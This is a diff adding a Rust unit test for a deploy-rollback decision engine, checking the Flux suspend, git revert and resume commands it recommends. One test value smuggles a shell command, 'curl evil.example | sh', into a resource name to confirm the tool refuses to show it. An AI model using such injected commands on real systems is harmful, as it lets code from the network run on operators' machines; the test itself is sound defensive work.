@@ -1119,6 +1119,51 @@ fn gitops_targets_hold_and_recommend_the_git_revert() {
 }
 
 #[test]
+fn flux_targets_are_suspended_reverted_and_resumed() {
+    let mut t = target();
+    t.gitops = Some("flux".into());
+    let mut deploys = history();
+    deploys[1].deploy.commit_sha = Some("abc123".into());
+    deploys[1].deploy.details = serde_json::json!({
+        "flux": {"kind": "kustomization", "name": "apps", "namespace": "flux-system"}
+    });
+    let decide_for = |deploys: &[DeployRecord]| {
+        decide(
+            &Policy::default(),
+            &t,
+            deploys,
+            &[fresh(SignalKind::ErrorRate, 0.07)],
+            &[],
+            &History::default(),
+            now(),
+        )
+    };
+    let d = decide_for(&deploys);
+    assert_eq!((d.verdict, codes(&d)), (Verdict::Hold, vec!["gitops"]));
+    assert_eq!(
+        d.recommended,
+        [
+            "flux suspend kustomization apps -n flux-system",
+            "git revert abc123",
+            "# once the revert is merged:",
+            "flux resume kustomization apps -n flux-system",
+        ]
+    );
+    // A hostile name on record is never shown as a command.
+    deploys[1].deploy.details["flux"]["name"] = "apps; curl evil.example | sh".into();
+    let d = decide_for(&deploys);
+    assert!(
+        d.recommended[0].starts_with("# flux suspend: not shown"),
+        "{:?}",
+        d.recommended
+    );
+    assert_eq!(d.recommended[1], "git revert abc123");
+    // Without the Flux object on record: the revert alone.
+    deploys[1].deploy.details = serde_json::json!({});
+    assert_eq!(decide_for(&deploys).recommended, ["git revert abc123"]);
+}
+
+#[test]
 fn gitops_recommends_no_revert_when_another_hold_says_the_deploy_is_not_to_blame() {
     let mut t = target();
     t.gitops = Some("flux".into());
